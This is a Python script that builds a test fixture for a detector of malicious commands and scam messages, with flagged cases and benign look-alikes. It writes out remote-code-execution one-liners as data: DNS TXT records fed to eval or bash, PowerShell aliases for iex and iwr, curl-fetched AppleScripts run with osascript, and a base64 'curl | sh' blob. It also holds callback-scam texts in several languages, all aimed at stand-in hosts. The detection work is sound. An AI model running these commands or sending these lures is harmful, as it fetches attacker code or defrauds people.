"""Writes tests/data/cases/b21fix.jsonl: the kinds of text BLIND-21's misses stand for (helper
"b21fix", 2026-12-07 late night), written here from general knowledge of such texts, each beside
look-alikes on the other side that must keep their level.

    python tests/data/cases/make_b21fix.py

Deterministic. Invented hosts are reserved names (*.test, *.example, *.invalid) and documentation
addresses, phone numbers are made-up 555 ones; no blind set's text, lure collection or other
detector's fixture is copied. Each line is {id, text, expect, technique, platform, source, target}.

By kind:

- `dns-txt-to-shell`: a DNS text record (dig, kdig, drill, host -t txt, nslookup -type=txt)
  handed to a shell on Linux or macOS as a substitution (`eval "$(dig +short TXT … @resolver |
  tr -d '"')"`, `sh -c "$(…)"`, `bash <(…)`, `source <(…)`), kept in a variable that eval runs,
  or saved as a script and run: PG-NIX-NETWORK-TEXT-TO-SHELL read only a pipe into sh. A lookup
  that is only shown, grepped, looped over or saved to a text file stays quiet.
- `callback-pl` / `callback-tr`: an order or payment "paid" or "confirmed" with its number and
  amount between the noun and the verb (zamówienie nr … na kwotę … zostało opłacone, Siparişiniz
  4.899 TL tutarında onaylandı), and "if you did not place the order" (jeśli nie składałeś
  zamówienia, nie zamawiałeś?), beside a number to call. The shop's own confirmation that sends
  you to the account or app stays quiet.
- `scam-lock-pl`: "Twoje konto Apple ID zostało zablokowane", the brand of two words.
- `parcel-fee-pl-ru-ar`: a parcel at a customs office (urząd celny, на таможне, في الجمارك), a
  fee to pay by phone within hours; and `failed-renewal-pl-tr-ru-ar`: a renewal that failed
  (została odrzucona, başarısız oldu, не удалось продлить, فشل تجديد), a number and a deadline.
  The carrier's or shop's own notice that names its site or app stays quiet.
- `ps-alias-indirection`: Set-Alias / New-Alias / sal / nal naming iex, iwr, irm or
  Start-Process for a short word that then downloads and runs: blocked, also where the line is
  short words only (`sal g iwr; sal e iex; e (g URL -UseB)` read as a sentence before). An alias
  for a listing or an editor stays quiet.
- `osascript-downloaded-file`: an AppleScript saved by curl or wget and run by osascript without
  a language switch (`… -o /tmp/u.scpt && osascript /tmp/u.scpt`): blocked, as the JXA form was.
  osascript running a script of one's own, or showing a notification after a download, is not.
- `url-verify-tail`: an address of a program with a fake check or fix after a cmd or VBScript
  comment mark (`'`, `:::`) or a long run of blanks, in several languages ("reCAPTCHA
  verification complete ID 4471", "Google Meet microphone fix ID 7714", "Weryfikacja
  zakończona"). A bookmark's note after an installer's address stays information.
- `security-writing`: sentences that quote a lure by its words (piped into base64 -d | bash) or
  with its address defanged (curl -fsSL hxxps://x[.]example/i.sh | bash): a report, not
  a command. The same words with a live address, or with a blob to decode, stay flagged.
"""

from __future__ import annotations

from pathlib import Path

from casefile import Book, write  # beside this script, which runs as tests/data/cases/make_*.py

OUT = Path(__file__).with_name("b21fix.jsonl")
RUN = "run_dialog"
TERMINAL = "terminal"
OTHER = "other"
UNKNOWN = "unknown"
FORUM = "https://linux-help.forum-answers.test/t/fix-audio"
SCAM = "https://order-refund-desk.invalid/pl/"
CHECK = "https://verify-session.check-human.test/"
WIKI = "https://wiki.soc.example/intel/writeups/2026-12"
DOCS = "https://docs.example.org/dns/txt-records"


def dns(book: Book) -> None:
    tech = "dns-txt-to-shell"
    for text in (
        'eval "$(dig +short TXT cfg.relay-node.test @203.0.113.53 | tr -d \'"\')"',
        'sh -c "$(dig +short txt s1.updates-cache.invalid)"',
        "bash <(kdig +short TXT boot.mirror-edge.test | tr -d '\"')",
        "source <(drill TXT init.node-cache.test | grep -v ';' | awk '{print $5}' | tr -d '\"')",
        "eval $(nslookup -type=txt k.relay-node.test 198.51.100.53 | grep text | cut -d'\"' -f2)",
        'R=$(host -t txt p.relay-node.test | cut -d\'"\' -f2); eval "$R"',
        "dig +short TXT x.relay-node.test | tr -d '\"' > /tmp/.x.sh && bash /tmp/.x.sh",
        "dig TXT a.stage-host.test +short | tr -d '\"' | base64 -d | sudo bash",
        'python3 -c "$(dig +short TXT py.stage-host.test | tr -d \'\\"\')"',
    ):
        book.add(tech, text, "malicious", "linux", TERMINAL, FORUM)
        book.add(tech, text, "malicious", "linux", UNKNOWN, None)
    for text in (
        "dig +short TXT example.com > spf.txt; cat spf.txt",
        "kdig -t TXT example.com | less",
        "dig TXT _dmarc.example.com +short | grep -q 'p=reject' && echo ok",
        'for z in $(dig +short TXT list.example.com); do echo "$z"; done',
        'RECORD=$(dig +short TXT _acme-challenge.example.com); echo "$RECORD"',
        "dig +short TXT example.com | tee /tmp/txt-records && wc -l /tmp/txt-records",
        "host -t txt example.org | grep spf",
    ):
        book.add(tech, text, "not_flagged", "linux", TERMINAL, DOCS)


def scam(book: Book) -> None:
    tech = "callback-pl"
    for text in (
        "Twoje zamówienie nr 48812 na kwotę 2 899 zł zostało opłacone. Jeśli nie składałeś "
        "zamówienia, zadzwoń natychmiast na infolinię: 22 555 18 40.",
        "Zamówienie #60231 zostało zrealizowane, kwota 1 499 zł. Jeśli to nie Ty, skontaktuj się "
        "z nami: +48 22 555 71 02.",
        "Płatność nr 5512 w wysokości 749,00 zł została zaakceptowana. Nie zamawiałeś? Zadzwoń "
        "pod numer 800 555 402.",
        "Transakcja na kwotę 3 250 zł została pomyślnie zatwierdzona. Jeśli nie zlecałeś tej "
        "płatności, zadzwoń: 22 555 90 33.",
        "Twoja subskrypcja za 399 zł została odnowiona. Jeśli nie składałaś zamówienia, "
        "zadzwoń na 801 555 210.",
    ):
        book.add(tech, text, "flagged", "any", UNKNOWN, SCAM)
        book.add(tech, text, "flagged", "any", UNKNOWN, None)
    tech = "callback-tr"
    for text in (
        "Siparişiniz 4.899 TL tutarında onaylandı. Bu siparişi siz vermediyseniz hemen "
        "0850 555 12 34 numaralı hattı arayın.",
        "Ödemeniz 2.750 TL olarak tamamlandı. İşlemi siz yapmadıysanız 0212 555 40 18 "
        "numarasını arayın.",
        "Satın alımınız 1.299 TL bedelle onaylandı. Siz değilseniz 0850 555 77 21 numaralı "
        "müşteri hizmetlerini arayın.",
    ):
        book.add(tech, text, "flagged", "any", UNKNOWN, None)
    tech = "scam-lock-pl"
    for text in (
        "Twoje konto Apple ID zostało zablokowane ze względów bezpieczeństwa. Aby je "
        "odblokować, zadzwoń na 800 555 318.",
        "Twoje konto Google Play zostało zablokowane. Zadzwoń natychmiast pod 22 555 61 07.",
    ):
        book.add(tech, text, "malicious", "any", UNKNOWN, None)
    tech = "parcel-fee-pl-ru-ar"
    for text in (
        "Twoja paczka czeka w urzędzie celnym. Opłata 12,99 zł musi zostać uiszczona w ciągu "
        "24 godzin. Zadzwoń: 22 555 90 12.",
        "Ваша посылка задержана на таможне. Оплатите пошлину 350 руб. в течение 24 часов по "
        "телефону 8 800 555-12-90.",
        "طردك محتجز في الجمارك. ادفع رسوم 25 ريال خلال 48 ساعة. اتصل على 920055590.",
    ):
        book.add(tech, text, "flagged", "any", UNKNOWN, None)
    tech = "failed-renewal-pl-tr-ru-ar"
    for text in (
        "Płatność za odnowienie subskrypcji (49,99 zł) została odrzucona. Zadzwoń natychmiast "
        "pod 800 555 621, aby uniknąć utraty danych.",
        "Abonelik ödemeniz (149,99 TL) başarısız oldu. Hizmetinizin kesilmemesi için hemen "
        "0850 555 62 10 numarasını arayın.",
        "Не удалось продлить вашу подписку (2 990 руб.). Срочно позвоните по номеру "
        "8 800 555-62-10.",
        "فشل تجديد اشتراكك بمبلغ 49 ريال. اتصل فوراً على 920055621.",
    ):
        book.add(tech, text, "flagged", "any", UNKNOWN, None)
    for text in (
        "Dziękujemy! Zamówienie nr 48812 na kwotę 2 899 zł zostało opłacone. Status zamówienia "
        "sprawdzisz w aplikacji. Infolinia sklepu: 22 555 18 40 (pon.–pt. 8–18).",
        "Twoja paczka jest w urzędzie celnym. Opłatę 12,99 zł możesz uiścić online na stronie "
        "przewoźnika. Infolinia czynna w godz. 8-18: 22 555 90 12.",
        "Ваша посылка прибыла на таможню. Оплатить пошлину 350 руб. можно в приложении. "
        "Телефон справочной: 8 800 555-12-90.",
        "Płatność za subskrypcję (49,99 zł) została odrzucona. Zaktualizuj kartę na stronie "
        "www.example.pl lub zadzwoń 800 555 621.",
        "Siparişiniz 4.899 TL tutarında onaylandı. Kargo takibini mobil uygulamadan "
        "yapabilirsiniz. Müşteri hizmetleri: 0850 555 12 34.",
    ):
        book.add("notice-pl-tr-ru", text, "not_flagged", "any", OTHER, None)


def commands(book: Book) -> None:
    tech = "ps-alias-indirection"
    for text, target in (
        ("sal g iwr; sal e iex; e (g https://cdn-edge.relay-node.test/a -UseB)", RUN),
        (
            "Set-Alias -Name x -Value Invoke-Expression; x (Invoke-RestMethod "
            "https://cdn-edge.relay-node.test/p.ps1)",
            TERMINAL,
        ),
        (
            "New-Alias dl Invoke-WebRequest; New-Alias run iex; run (dl "
            "https://cdn-edge.relay-node.test/p -UseBasicParsing).Content",
            RUN,
        ),
        ("nal q irm; q https://cdn-edge.relay-node.test/p.ps1 | iex", RUN),
        (
            "nal -Name d -Value Invoke-WebRequest; nal -Name r -Value Invoke-Expression; r (d "
            "https://cdn-edge.relay-node.test/p -UseB).Content",
            TERMINAL,
        ),
        (
            "sal s Start-Process; iwr https://cdn-edge.relay-node.test/u.exe -OutFile "
            "$env:TEMP\\u.exe; s $env:TEMP\\u.exe",
            RUN,
        ),
    ):
        book.add(tech, text, "malicious", "windows", target, CHECK)
        book.add(tech, text, "malicious", "windows", UNKNOWN, None)
    for text in (
        "Set-Alias ll Get-ChildItem",
        "Set-Alias np notepad.exe; np C:\\notes.txt",
        "New-Alias -Name k -Value kubectl; k get pods",
    ):
        book.add(tech, text, "not_flagged", "windows", TERMINAL, None)

    tech = "osascript-downloaded-file"
    for text in (
        "curl -s https://mac-updates.relay-node.invalid/u.scpt -o /tmp/u.scpt && osascript "
        "/tmp/u.scpt",
        "curl -fsSL -o /tmp/.upd https://cdn-mac.stage-host.test/update && osascript /tmp/.upd",
        "wget -qO ~/Library/upd.applescript https://cdn-mac.stage-host.test/a && osascript "
        "~/Library/upd.applescript",
        "cd /tmp && curl -sO https://cdn-mac.stage-host.test/helper.scpt && osascript helper.scpt",
        'curl -sL https://cdn-mac.stage-host.test/p -o "$TMPDIR/p" ; osascript "$TMPDIR/p"',
    ):
        book.add(tech, text, "malicious", "macos", TERMINAL, None)
    for text in (
        "osascript ~/Scripts/backup.applescript",
        'osascript -e \'tell application "Finder" to open POSIX file "/tmp"\'',
    ):
        book.add(tech, text, "not_flagged", "macos", TERMINAL, None)

    tech = "url-verify-tail"
    for text in (
        "http://198.51.100.217/captcha.cmd     ' reCAPTCHA verification complete ID 5120",
        "https://meet-fix.relay-node.test/fix.msi ::: Google Meet microphone fix ID 8812",
        "https://cdn-edge.relay-node.test/teams-update.msi     # Microsoft Teams audio repair "
        "ID: 55120",
        "https://cdn-edge.relay-node.test/check.hta # Verifizierung abgeschlossen",
        "https://cdn-edge.relay-node.test/driver.msi          Weryfikacja zakończona",
        "https://cdn-edge.relay-node.test/v.cmd :: Human check passed - ref 7731",
        "https://cdn-edge.relay-node.test/a.cmd & rem Cloudflare verification complete ID 6612",
        "https://cdn-edge.relay-node.test/a.cmd ; Verification complete",
    ):
        book.add(tech, text, "malicious", "windows", RUN, CHECK)
        book.add(tech, text, "flagged", "windows", UNKNOWN, None)
    for text in (
        "https://cdn-edge.relay-node.test/v ' I am not a robot - reCAPTCHA ID 2291",
        "https://cdn-edge.relay-node.test/update.zip ::: Zoom audio fix ID 9912",
    ):
        book.add(tech, text, "flagged", "windows", UNKNOWN, None)
    for text in (
        "https://intranet.example.com/tools/agent.msi # IT agent for new laptops",
        "https://www.example.com/status ; checked 2026-12-01, all fine",
        "https://example.com/docs/setup.msi  # installer, see ticket 4471",
        "https://github.com/example-org/tool/releases/download/v1.2/tool.msi # fix for issue #1234",
    ):
        book.add(tech, text, "not_flagged", "windows", OTHER, None)


def writing(book: Book) -> None:
    tech = "security-writing"
    for text in (
        "The macOS variant tells victims to open Terminal and paste an echo of a long blob "
        "piped into base64 -d | bash; the decoded stage fetches a stealer. Never paste commands "
        "from a web page into Terminal.",
        "Post-incident note: the user followed a sponsored result and pasted curl -fsSL "
        "hxxps://cli-install[.]example/install.sh | bash. The real installer lives on the "
        "vendor's own domain.",
        "The fake page shows a wget -qO- hxxp://update-node[.]invalid/i | sh line to Linux "
        "visitors; the script installs a miner.",
        "Campaign summary: victims ran irm hxxps://verify-node[.]example/c | iex from the Run "
        "box. Block the domain at the proxy.",
        "In this lure the echoed text goes through base64 -d | sh, and the dropper then clears "
        "the quarantine flag; Gatekeeper never sees the binary.",
    ):
        book.add(tech, text, "not_flagged", "any", UNKNOWN, WIKI)
    for text, target in (
        (
            "Run this in Terminal: echo Y3VybCAtcyBodHRwczovL3guZXhhbXBsZS9hIHwgc2g= | base64 -d | "
            "bash",
            TERMINAL,
        ),
        (
            "Post-incident note: the user pasted curl -fsSL https://cli-install.stage-host.test/"
            "install.sh | bash. Always use the vendor's docs.",
            TERMINAL,
        ),
        (
            "Open Terminal and paste curl -fsSL https://brew-setup.stage-host.test/i.sh | bash to "
            "finish the setup.",
            TERMINAL,
        ),
    ):
        book.add(tech, text, "flagged", "any", target, None)


def build() -> list[dict[str, str]]:
    book = Book("b21f")
    dns(book)
    scam(book)
    commands(book)
    writing(book)
    return book.cases


CASES = build()

if __name__ == "__main__":
    write(OUT, CASES)
